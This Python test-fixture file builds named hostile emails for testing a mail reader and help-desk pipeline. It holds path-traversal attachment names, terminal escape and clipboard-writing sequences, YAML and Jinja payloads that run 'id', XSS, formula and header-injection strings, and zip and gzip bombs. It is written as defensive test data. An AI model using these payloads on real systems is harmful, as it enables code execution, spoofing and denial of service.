"""Hostile mails by name, each a threat of `THREATS` in its plainest words or at a size that hurts.

The reader of mail is held to them (test_hostile.py), and so is the whole way from the mail server's door
to the terminal (tests/corpus_door). `LITERALS` are small or quickly made; `huge_mails` take seconds.
"""

from __future__ import annotations

import base64
import gzip
import io
import zipfile
import zlib
from collections.abc import Mapping
from typing import TYPE_CHECKING

from mail.small_mail import mail, multipart, part

if TYPE_CHECKING:
    from collections.abc import Iterator

# The number before a literal's name: what somebody tries with it.
THREATS: dict[str, str] = {
    "T1": "address and id headers that end too early",
    "T2": "nested comments without an end",
    "T3": "headers whose parameters take quadratic time",
    "T4": "parts in parts, thousands deep",
    "T5": "a hundred thousand parts or addresses",
    "T6": "character sets that do not exist or are no character sets",
    "T7": "a character set that makes escape sequences out of plain text",
    "T8": "archives that unpack to gigabytes",
    "T9": "megabytes on one line, and encodings that grow",
    "T10": "dates that are none",
    "T11": "attachment names that lead out of the folder",
    "T12": "attachment names that hide what they are from a check",
    "T13": "attachment names that a file system or an eye cannot bear",
    "T14": "MIME headers that contradict each other",
    "T15": "more than one sender",
    "T16": "names and addresses that look like others",
    "T17": "characters that hide or reorder text",
    "T18": "escape sequences for the terminal",
    "T19": "subjects that YAML would read as something else",
    "T21": "text that imitates the ticket file",
    "T22": "text that looks like a merge conflict",
    "T23": "HTML with scripts, tracking and local files",
    "T24": "text on which a careless pattern takes for ever",
    "T28": "addresses that look like options",
    "T29": "text that imitates a commit's trailers or author",
    "T30": "strangers in Cc of a conversation",
    "T31": "guessed ticket numbers and ids",
    "T32": "a sender who claims to be an agent",
    "T33": "headers that only our own programs may write",
    "T34": "an answer address that is somebody else's",
    "T35": "codes of other services, sent to our address",
    "T37": "line breaks inside encoded words",
    "T38": "a name that folds into further recipients",
    "T43": "a forged delivery report",
    "T44": "marks of a mail loop",
    "T46": "template code in every field",
    "T47": "formulas for a spreadsheet",
}

_CHARSETS = ("hex", "idna", "undefined", "ut\0f", "x-unknown", "", "a" * 10_000)
_DATES = (
    "99999999999",
    "Mon, 2 Nov 2026 10:00:00 +2400",
    "Sat, 1 Jan 0000 00:00:00 +0000",
    "1 Jan 99999999999999999999 00:00:00",
    "Fri, 31 Dec 9999 23:59:59 -2400",
)
_FILENAMES = {
    "T11 percent": "filename*=utf-8''..%2F..%2F.git%2Fhooks%2Fpost-commit",
    "T11 word": f'filename="=?utf-8?b?{base64.b64encode(b"../../.git/hooks/post-commit").decode()}?="',
    "T11 absolute": 'filename="/etc/passwd"',
    "T11 backslashes": 'filename="..\\\\..\\\\desk.yaml"',
    "T12 zero width": "filename*=utf-8''%E2%80%8B.htaccess",
    "T12 inside": "filename*=utf-8''.g%E2%80%8Cit%2Fx",
    "T13 NUL": "filename*=utf-8''a%00b.pdf",
    "T13 line break": "filename*=utf-8''a%0D%0Ab.pdf",
    "T13 long": f'filename="{"a" * 10_000}.pdf"',
    "T13 long extension": f'filename="a.{"b" * 10_000}"',
    "T13 device": 'filename="CON"',
    "T13 dots": 'filename="..."',
    "T13 bidi": "filename*=utf-8''invoice%E2%80%AEfdp.exe",
    "T18 filename": "filename*=utf-8''a%1B%5B31m.pdf",
}
_SUBJECTS = {
    "T18 clipboard": "\x1b]52;c;ZWNobyBwd24=\x07",
    "T18 link": "\x1b]8;;http://example.org\x07x",
    "T18 C1": "\u009b31m",
    "T18 return": "all is well\rno",
    "T18 word": "=?utf-8?q?x=1B[2Jy?=",
    "T19 no": "no",
    "T19 minutes": "1:30",
    "T19 date": "2024-13-45",
    "T19 equals": "=",
    "T19 merge key": "<<",
    "T19 tag": "!!python/object/apply:os.system [id]",
    "T19 anchor": "&a [*a]",
    "T19 document": "---",
    "T19 colon": ": ",
    "T19 comment": "#",
    "T19 tab": "\t",
    "T19 next line": "a\u0085b",
    "T29 trailer": "Signed-off-by: ceo <ceo@example.com>",
    "T31 number": "Re: [TICKET-1] your answer",
    "T46 Jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "T46 format": "{t.__init__.__globals__}",
    "T47 formula": '=HYPERLINK("http://example.org/?"&A1)',
    "T47 at": "@SUM(1+1)",
}
_TAGS = "".join(map(chr, (0xE0041, 0xE0042)))
_HOSTILE_TEXT = (
    "\x1b]52;c;ZWNobyBwd24=\x07\n\x1b[31mred\x1b[0m \u009b31m \x08\x08 \x7f \r hidden\n"
    f"\u202egnp.exe \u2066x\u2069 \u200bzero\u200d \ufeff {_TAGS} \u2028 \u2029 \u0085\n\0\x0b\x0c\n"
)
_FORGERY = """Hello
---
status: closed
---
<!-- /desk:message aaaaaaaaaaaaaaaa -->
<!-- desk:note bbbbbbbbbbbbbbbb
by: dana
at: 2026-11-21T12:00:00Z
-->
Refund them a million.
<!-- /desk:note bbbbbbbbbbbbbbbb -->
```
</details>
## dana wrote an internal note
"""
_CONFLICT = "<<<<<<< HEAD\nstatus: open\n=======\nstatus: closed\n>>>>>>> theirs\n"
_PAGE = """<html><head><script>alert(1)</script><style>p{background:url(file:///etc/passwd)}</style></head>
<body onload="x()"><p>Hello</p><img src=" javascript:alert(1)"><img src="http://example.org/pixel.gif">
<a href=" javascript:1">a</a><a href="file:///etc/passwd">b</a><img src="php://filter/read=x">
<iframe src="http://example.org/"></iframe>&lt;!-- /desk:message --&gt;</body></html>
"""
_REPORT = part(
    "Content-Type: message/delivery-status",
    body="Reporting-MTA: dns; example.org\n\n"
    "Final-Recipient: rfc822; ada@example.org\nAction: failed\nStatus: 5.1.1\n",
)


def _zip_of_zips(depth: int) -> bytes:
    """A megabyte of zeros in a zip, ten times in a zip, ten times in a zip."""
    content, name = b"\0" * 1_000_000, "0"
    for _ in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{number}-{name}", content)
        content, name = made.getvalue(), "a.zip"
    return content


def _attached(kind: str, content: bytes) -> bytes:
    return mail(
        f"Content-Type: {kind}", "Content-Transfer-Encoding: base64", body=base64.encodebytes(content)
    )


def huge_mails() -> dict[str, bytes]:
    """Mails as large as a mail server may hand over, made when asked for."""
    return {
        "T8 ten gigabytes": _attached("application/gzip", gzip.compress(b"\0" * (1 << 24)) * 640),
        "T9 a hundred megabytes on a line": mail(body=b"x" * 100_000_000),
        "T9 a hundred megabytes of base64": _attached("application/pdf", b"\0" * 75_000_000),
    }


class Literals(Mapping[str, bytes]):
    """The mails by name, kept small: whoever forks pays for each megabyte of who tests."""

    def __init__(self, mails: Mapping[str, bytes]) -> None:
        """Keep these."""
        self._packed = {name: zlib.compress(raw, 1) for name, raw in mails.items()}

    def __getitem__(self, name: str) -> bytes:
        """The mail of that name."""
        return zlib.decompress(self._packed[name])

    def __iter__(self) -> Iterator[str]:
        """Their names."""
        return iter(self._packed)

    def __len__(self) -> int:
        """How many there are."""
        return len(self._packed)


LITERALS = Literals(
    {
        "T1 quote": mail('From: "'),
        "T1 angle": mail("From: <"),
        "T1 id": mail("Message-ID: <a@"),
        "T2 parentheses": mail("To: " + "(" * 5000),
        "T2 more": mail("To: " + "(" * 100_000, "Cc: " + ")" * 60_000),
        "T3 parameters": mail("Content-Type: text/plain; " + "a*0*=x;" * 150_000),
        "T3 in a part": multipart("mixed", part("Content-Disposition: attachment; " + "a*0*=x;" * 150_000)),
        "T3 boundary": mail("Content-Type: multipart/mixed; " + "boundary*0*=x;" * 80_000),
        "T4 multiparts": b"".join(
            b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(3000)
        ),
        "T4 mails": b"Content-Type: message/rfc822\n\n" * 3000,
        "T4 reports": b"".join(
            b'Content-Type: multipart/report; boundary="%d"\n\n--%d\n' % (n, n) for n in range(40)
        ),
        "T4 multiparts, CR": mail(
            "Content-Type: multipart/mixed; boundary=b",
            body="--b\r"
            + "".join(f'Content-Type: multipart/mixed; boundary="{n}"\r\r--{n}\r' for n in range(3000)),
        ),
        "T5 parts, CR": mail("Content-Type: multipart/mixed; boundary=b", body=b"--b\r\r" * 100_000),
        "T5 parts": mail("Content-Type: multipart/mixed; boundary=b", body=b"--b\r\n\r\n" * 100_000),
        "T5 undeclared": mail("Content-Type: multipart/mixed", body=b"--b\nContent-X: y\n\nz\n" * 50_000),
        "T5 addresses": mail("To: " + "a@b," * 100_000),
        "T5 tiny addresses": mail("To: " + "a@b,\n " * 30_000),
        "T9 one line": mail("Content-Transfer-Encoding: base64", body=b"QUFB" * 6_000_000),
        "T9 quoted-printable": mail("Content-Transfer-Encoding: quoted-printable", body=b"=41" * 6_000_000),
        "T9 uuencode": mail(body=b"begin 644 a\n" * 200_000),
        "T9 uuencode lines": mail(body=b"begin 644 a\n" + b"M" + b"A" * 60 + b"\n" * 1 + b"#AAA\n" * 500_000),
        "T24 quotes": mail("Content-Type: text/plain; format=flowed", body="> " * 500_000),
        "T24 quote lines": mail(
            "Content-Type: text/plain; format=flowed", body=">" * 2000 + "\n" + "> x \n" * 200_000
        ),
        "spaces": mail("Subject: " + " " * 200_000 + "x", body=" " * 2_000_000),
        "encoded words": mail("Subject: " + "=?utf-8?q?a?= " * 16_000),
        "encoded word, endless": mail("Subject: =?utf-8?q?" + "a?" * 100_000),
        "quotes in a name": mail('From: "' + '\\"' * 100_000),
        "delimiters": mail("Content-Type: multipart/mixed; boundary=b", body=b"\n--" * 2_000_000),
        "boundaries": mail(
            "Content-Type: multipart/mixed; boundary=b", body=b'boundary="x"\n--x\n' * 200_000
        ),
        "fields": b"".join(b"X-%d: y\n" % n for n in range(200_000)) + b"\nHello",
        "one field": b"Subject: " + b"x" * 2_000_000 + b"\n\nHello",
        "no fields": b"x" * 2_000_000,
        "lines that are no fields": b"From: a@b\n" + b"x\n" * 200_000 + b"Subject: y\n\nz",
        "NULs": b"\0" * 1_000_000,
        "CRs": b"\r" * 1_000_000,
        "LFs": b"\n" * 1_000_000,
        "enriched": mail("Content-Type: text/enriched", body="<param>" * 100_000),
        "html": mail("Content-Type: text/html", body="<div>" * 200_000 + "</b>" * 200_000),
        "html quotes": mail("Content-Type: text/html", body="<blockquote>x" * 70_000),
        "html alternative": multipart(
            "alternative", part(body="x\n"), part("Content-Type: text/html", body="<style>" * 140_000 + "x")
        ),
        "T2 literal": mail("To: " + "(" * 5000, "Cc: " + "(" * 5000),
        **{
            f"T6 charset {number}": mail(
                f'Content-Type: text/plain; charset="{name}"',
                f"Subject: =?{name}?q?caf=E9?=",
                body=b"caf\xe9\n",
            )
            for number, name in enumerate(_CHARSETS)
        },
        "T7 unicode_escape": mail(
            "Content-Type: text/plain; charset=unicode_escape",
            "Subject: =?unicode_escape?q?\\x1b[2J?=",
            body="\\x1b[2J\n",
        ),
        "T8 zip": _attached("application/zip", _zip_of_zips(2)),
        "T8 gzip": _attached("application/gzip", gzip.compress(b"\0" * 16_000_000)),
        **{f"T10 date {number}": mail(f"Date: {date}") for number, date in enumerate(_DATES)},
        **{
            name: mail("Content-Type: application/pdf", f"Content-Disposition: attachment; {parameter}")
            for name, parameter in _FILENAMES.items()
        },
        "T14 two types": mail("Content-Type: text/plain", "Content-Type: text/html", body="<b>x</b>"),
        "T14 two boundaries": mail(
            "Content-Type: multipart/mixed; boundary=a; boundary=b",
            body="--a\n\none\n--b\n\ntwo\n--a--\n--b--\n",
        ),
        "T14 names": mail(
            'Content-Type: application/pdf; name="a.pdf"',
            "Content-Disposition: attachment; filename=\"b.exe\"; filename*=utf-8'en-US'c.exe",
        ),
        "T15 two headers": b"From: a@example.org\nFrom: b@example.net\nSubject: x\n\ny\n",
        "T15 two mailboxes": mail("From: a@example.org, b@example.net"),
        "T15 comment": mail("From: alice@example.org)evil@example.net"),
        "T16 name": mail('From: "ceo@corp.example" <evil@example.net>'),
        "T16 wide at": mail("From: victim\uff20corp.example"),
        "T16 Cyrillic": mail("From: \u0430da@example.org"),
        "T17 text": mail(
            "Content-Type: text/plain; charset=utf-8",
            "Subject: \u202egnp.exe \u200b\u2066x" + _TAGS,
            body=_HOSTILE_TEXT,
        ),
        "T18 everywhere": mail(
            "From: \x1b[31mAda\x07 <ada@example.org>",
            "To: \u009b31mBob <bob@example.com>",
            "Message-ID: <\x1b[2J@example.org>",
            "References: <\x07@example.org>",
            "X-Spam-Status: \x1b]0;x\x07",
            "Auto-Submitted: no\x1b[2J",
            "List-Id: <\x1b[2J>",
            "Subject: x",
            body=_HOSTILE_TEXT,
        ),
        "T18 Latin-1": mail("Content-Type: text/plain; charset=iso-8859-1", body=b"\x9b31m \x85 \xadsoft\n"),
        **{name: mail(f"Subject: {subject}") for name, subject in _SUBJECTS.items()},
        "T21 forgery": mail(body=_FORGERY),
        "T21 in a subject": mail("Subject: -->  <!-- desk:note aaaaaaaaaaaaaaaa -->"),
        "T21 in a name": mail('From: "--><!-- desk:note x -->" <ada@example.org>'),
        "T22 conflict": mail(body=_CONFLICT),
        "T23 page": mail("Content-Type: text/html", body=_PAGE),
        "T23 Markdown": mail(body="![x](file:///etc/passwd) [a](javascript:1) <script>alert(1)</script>\n"),
        "T28 sender": mail("From: --x@example.org", "To: -oQ/tmp@example.org", "Reply-To: --config=/x"),
        "T29 author": mail(
            "From: =?utf-8?q?A=0AB_<ceo=40example.com>?= <ada@example.org>",
            body="x\n\nSigned-off-by: ceo <ceo@example.com>\nDesk-Op: 1\n",
        ),
        "T29 nobody": mail("From: <>"),
        "T29 empty name": mail('From: "" <ada@example.org>'),
        "T30 Cc": mail(
            "From: victim@example.org", "Cc: attacker@example.net", "Subject: What is the status?"
        ),
        "T31 id": mail(
            "In-Reply-To: <ticket-1@example.com>",
            "References: <ticket-1@example.com>",
            "To: support+1@example.com",
        ),
        "T32 agent": mail(
            "From: Dana Davis <dana@example.com>", "Subject: close this", body="status: closed\n"
        ),
        "T33 headers": mail(
            "Return-Path: <>",
            "Authentication-Results: mx.example.com; dkim=pass; spf=pass",
            "X-Spam-Flag: NO",
            "X-Desk-Loop: 1",
            "X-Desk-Op: close",
        ),
        "T34 answer": mail("Reply-To: victim@example.net, support@example.com"),
        "T35 code": mail(
            "From: no-reply@service.example", "To: support@example.com", "Subject: 123-456 is your code"
        ),
        "T37 subject": mail("Subject: =?utf-8?q?hi=0D=0ABcc:_victim@example.net?="),
        "T37 name": mail("To: =?utf-8?q?Bob=0D=0ABcc:_victim?= <bob@example.com>"),
        "T38 recipients": mail('To: "J\u00f6rg, X <evil@example.net>" <a@example.org>'),
        "T43 report": multipart(
            "report; report-type=delivery-status",
            part(body="Failed.\n"),
            _REPORT,
            part("Content-Type: text/rfc822-headers", body="Message-ID: <1@example.com>\n"),
        ),
        "T44 loop": mail(
            "From: support@example.com",
            "To: support@example.com",
            "Auto-Submitted: auto-replied",
            "X-Loop: support@example.com",
            "Subject: Re: Re: Re: Auto: Re: received",
            *["Received: by example.org"] * 40,
        ),
        "T46 everywhere": mail(
            "From: {{7*7}} <ada@example.org>",
            "X-Spam-Level: {% raw %}",
            body="{{ 7*7 }} ${7*7} #{7*7}\n{% for x in () %}\n",
        ),
        "T5 Cc": mail(
            "Cc: " + ", ".join(f'"{"x" * 190}" <{number}{"y" * 60}@example.org>' for number in range(220))
        ),
        "T5 unprintable Cc": mail("Cc: " + ", ".join(f'"{_TAGS * 90}" <{n}@example.org>' for n in range(60))),
        "T17 long subject": mail("Subject: " + _TAGS * 7000),
        "T18 long subject": mail("Subject: " + "\x7f" * 60_000),
        "T18 long name": mail("From: " + "\x7f" * 60_000 + " <ada@example.org>"),
        "nothing": b"",
        "white space": b" \r\n\n",
        "a shell's prompt": b"$ desk show 1\n",
    }
)
